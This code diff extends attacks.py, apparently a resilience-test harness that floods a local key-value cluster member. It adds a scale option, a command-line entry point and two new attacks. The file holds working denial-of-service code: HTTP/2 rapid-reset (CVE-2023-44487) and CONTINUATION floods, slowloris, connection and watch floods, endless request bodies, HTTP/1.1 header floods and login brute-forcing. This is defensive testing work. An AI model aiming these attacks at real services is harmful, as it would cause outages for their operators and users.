@@ -1,11 +1,13 @@
-"""What hostile clients do to a member, each attack for some seconds in a process of the lowest priority.
+"""What hostile clients do to a member, each attack for some seconds: attacks.py NAME PORT SECONDS SEED [SCALE]
 
-Python's standard library only. An attack returns what it counted, which shows that it took place.
+Python's standard library only. An attack returns what it counted, which shows that it took place. The scale says how much of
+connections, watches and the like there is, where 1 is what an attack usually has.
 """
 
 import random
 import socket
 import struct
+import sys
 import time
 
 import load
@@ -59,7 +61,7 @@ def until(seconds: float):
         yield
 
 
-def malformed(port: int, seconds: float, seed: int) -> str:
+def malformed(port: int, seconds: float, seed: int, scale: float) -> str:
     """Connections with frames that no one may send: random kinds, lengths, flags, streams, header blocks."""
     random_number, count = random.Random(seed), 0
     for _ in until(seconds):
@@ -82,7 +84,7 @@ def malformed(port: int, seconds: float, seed: int) -> str:
     return f"{count} connections"
 
 
-def resets(port: int, seconds: float, seed: int) -> str:
+def resets(port: int, seconds: float, seed: int, scale: float) -> str:
     """Calls that are reset as soon as they are made (CVE-2023-44487)."""
     count, connections, one, stream = 0, 0, None, 1
     cancel = struct.pack(">I", 8)
@@ -106,7 +108,7 @@ def resets(port: int, seconds: float, seed: int) -> str:
     return f"{count} calls reset over {connections} connections"
 
 
-def headers(port: int, seconds: float, seed: int) -> str:
+def headers(port: int, seconds: float, seed: int, scale: float) -> str:
     """Header lists that never end (CONTINUATION floods), and large ones by the hundred."""
     count, connections = 0, 0
     for _ in until(seconds):
@@ -134,14 +136,14 @@ def headers(port: int, seconds: float, seed: int) -> str:
     return f"{count} frames over {connections} connections"
 
 
-def loris(port: int, seconds: float, seed: int) -> str:
+def loris(port: int, seconds: float, seed: int, scale: float) -> str:
     """A thousand connections that say a byte a second: HTTP/1.1 heads, HTTP/2 prefaces, requests without end."""
     beginnings = (
         b"GET /health HTTP/1.1\r\nHost: a\r\nX-Slow: ", b"POST /v3/kv/put HTTP/1.1\r\nContent-Length: 100000\r\n\r\n{",
         PREFACE[:3], PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head(PUT)),
         PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head(PUT)) + struct.pack(">I", 5000)[1:] + b"\0\0\0\0\0\1")
-    many = []
-    for number in range(1000):
+    many, count = [], round(1000 * scale)
+    for number in range(count):
         one = connect(port)
         one.sendall(beginnings[number % len(beginnings)])
         many.append(one)
@@ -156,12 +158,12 @@ def loris(port: int, seconds: float, seed: int) -> str:
             time.sleep(0.001)
     for one in many:
         one.close()
-    return f"1000 connections, {closed} of them closed by the member"
+    return f"{count} connections, {closed} of them closed by the member"
 
 
-def idle(port: int, seconds: float, seed: int, count: int = 10_000) -> str:
-    """Connections that are made and then silent."""
-    many = []
+def idle(port: int, seconds: float, seed: int, scale: float) -> str:
+    """Ten thousand connections that are made and then silent."""
+    many, count = [], round(10_000 * scale)
     for _ in range(count):
         one = connect(port)
         one.sendall(PREFACE + frame(SETTINGS, 0, 0))
@@ -178,8 +180,9 @@ def watch_create(key: bytes) -> bytes:
     return load.grpc_message(load.bytes_field(1, load.bytes_field(1, key)))
 
 
-def watches(port: int, seconds: float, seed: int, count: int = 100_000) -> str:
-    """A watch for each of many keys, over ten streams, whose answers are read and thrown away."""
+def watches(port: int, seconds: float, seed: int, scale: float) -> str:
+    """A watch for each of a hundred thousand keys, over ten streams, whose answers are read and thrown away."""
+    count = round(100_000 * scale)
     streams = [connect(port) for _ in range(10)]
     for one in streams:
         one.sendall(
@@ -205,7 +208,7 @@ def watches(port: int, seconds: float, seed: int, count: int = 100_000) -> str:
     return f"{made} watches"
 
 
-def logins(port: int, seconds: float, seed: int) -> str:
+def logins(port: int, seconds: float, seed: int, scale: float) -> str:
     """Wrong passwords from fifty connections, ten at a time on each."""
     many = [connect(port) for _ in range(50)]
     body = load.grpc_message(load.bytes_field(1, b"root") + load.bytes_field(2, b"wrong"))
@@ -224,11 +227,11 @@ def logins(port: int, seconds: float, seed: int) -> str:
     return f"{count} logins"
 
 
-def ranges(port: int, seconds: float, seed: int) -> str:
+def ranges(port: int, seconds: float, seed: int, scale: float) -> str:
     """Two hundred connections that ask for all keys, ten times each, and read nothing."""
-    many = []
+    many, count = [], round(200 * scale)
     everything = load.grpc_message(load.bytes_field(1, b"\0") + load.bytes_field(2, b"\0"))
-    for _ in range(200):
+    for _ in range(count):
         one = connect(port, receive_buffer=4096)
         # Windows as large as can be, so that nothing but the socket holds the member back.
         one.sendall(
@@ -239,10 +242,78 @@ def ranges(port: int, seconds: float, seed: int) -> str:
         time.sleep(0.2)
     for one in many:
         one.close()
-    return "2000 ranges over 200 connections"
+    return f"{10 * count} ranges over {count} connections"
+
+
+def bodies(port: int, seconds: float, seed: int, scale: float) -> str:
+    """Three hundred connections with requests that never end, as large as they may be: calls, HTTP/1.1 bodies, WebSockets."""
+    large = b"a" * 240_000
+    call = struct.pack(">BI", 0, 1_500_000) + large
+    parts = [large[start:start + 16384] for start in range(0, len(large), 16384)]
+    calls = PREFACE + frame(SETTINGS, 0, 0) + b"".join(
+        frame(HEADERS, END_HEADERS, stream, head(PUT)) + frame(DATA, 0, stream, call[:5])
+        + b"".join(frame(DATA, 0, stream, part) for part in parts) for stream in range(1, 32, 2))
+    body = b'POST /v3/kv/put HTTP/1.1\r\nHost: a\r\nContent-Length: 5000000\r\n\r\n{"key":"' + large * 12
+    upgrade = (
+        b"GET /v3/watch HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n")
+    socket_frame = b"\x81\xff" + struct.pack(">Q", 3_900_000) + b"\0\0\0\0" + large * 12
+    many, sent = [], 0
+    for number in range(round(300 * scale)):
+        one = connect(port)
+        many.append(one)
+        try:
+            if number % 3 == 2:
+                one.sendall(upgrade)
+                one.recv(4096)
+            one.sendall((calls, body, socket_frame)[number % 3])
+            sent += len((calls, body, socket_frame)[number % 3])
+        except OSError:
+            pass
+    for _ in until(seconds):
+        time.sleep(0.2)
+    for one in many:
+        one.close()
+    return f"{len(many)} connections took {sent >> 20} MiB of requests without end"
+
+
+def http1(port: int, seconds: float, seed: int, scale: float) -> str:
+    """Heads over HTTP/1.1 that never end, and requests one behind the other without waiting."""
+    count, connections = 0, 0
+    for _ in until(seconds):
+        one, connections = connect(port), connections + 1
+        try:
+            if connections % 2:
+                one.sendall(b"GET /health HTTP/1.1\r\nHost: a\r\n")
+                for _ in range(100):
+                    one.sendall(b"x-a: " + b"y" * 10_000 + b"\r\n")
+                    count += 1
+            else:
+                for _ in range(20):
+                    one.sendall(b"GET /version HTTP/1.1\r\nHost: a\r\n\r\n" * 50)
+                    count += 50
+            drain(one)
+        except OSError:
+            pass
+        finally:
+            one.close()
+    return f"{count} fields or requests over {connections} connections"
 
 
 ATTACKS = {
     "malformed": malformed, "resets": resets, "headers": headers, "loris": loris, "idle": idle, "watches": watches,
-    "logins": logins, "ranges": ranges,
+    "bodies": bodies, "http1": http1, "logins": logins, "ranges": ranges,
 }
+
+
+def main() -> None:
+    name, port, seconds, seed = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
+    scale = float(sys.argv[5]) if len(sys.argv) > 5 else 1
+    try:
+        print(ATTACKS[name](port, seconds, seed, scale))
+    except OSError as error:
+        print(f"ended early: {error!r}")
+
+
+if __name__ == "__main__":
+    main()
